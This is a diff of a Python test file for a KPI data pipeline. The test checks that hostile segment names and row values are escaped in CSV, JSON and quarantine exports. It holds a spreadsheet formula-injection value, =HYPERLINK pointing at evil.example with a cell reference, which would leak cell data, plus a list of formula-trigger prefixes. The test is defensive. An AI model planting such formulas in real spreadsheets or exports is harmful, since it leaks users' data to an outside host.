@@ -8,7 +8,7 @@ import polars as pl
 import pytest
 
 from kpi_pipeline.checks.result import CheckResult
-from kpi_pipeline.cli.query import fit_for_spreadsheets
+from kpi_pipeline.cli.rows import fit_for_spreadsheets
 from kpi_pipeline.markdown import markdown_cell, plain
 from kpi_pipeline.orchestration.checks import _sample
 from tests.project import NOW, SALES_HEADER, Shop, csv, sales
@@ -23,7 +23,7 @@ FORMULA = "=HYPERLINK('https://evil.example?'&A1)"
 def test_hostile_names_of_segments_and_values_of_failing_rows(shop: Shop) -> None:
     names = [SCRIPT, IMAGE, LINK, ESCAPE, FORMULA]
     rows = [f'I9{at},c1,2024-01-0{at + 1} 10:00:00,"{name}",1,{5.0 + at}' for at, name in enumerate(names)]
-    rows += [f'"{SCRIPT}",c1,2024-01-05 10:00:00,Spain,1,-4']
+    rows += [f'"{SCRIPT}",c1,2024-01-05 10:00:00,Spain,1,-4', f"I99,c1,2024-01-05 10:00:00,Spain,{FORMULA},4"]
     shop.write("data/sales/odd.csv", csv(SALES_HEADER, [*sales(range(1), first_invoice=500), *rows]))
     shop.edit(
         "definitions/sources.yaml", "severity: warn, name: price_not", "severity: warn, name: price_above_zero_not"
@@ -44,6 +44,7 @@ def test_hostile_names_of_segments_and_values_of_failing_rows(shop: Shop) -> Non
     assert "\x07" not in shown
     assert "'=HYPERLINK" in shop.kpi("query", "revenue", "--by", "country", "--format", "csv").out
     assert '"=HYPERLINK' in shop.kpi("query", "revenue", "--by", "country", "--format", "json").out
+    assert ",'=HYPERLINK" in shop.kpi("quarantine", "sales", "--csv").out
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1"])
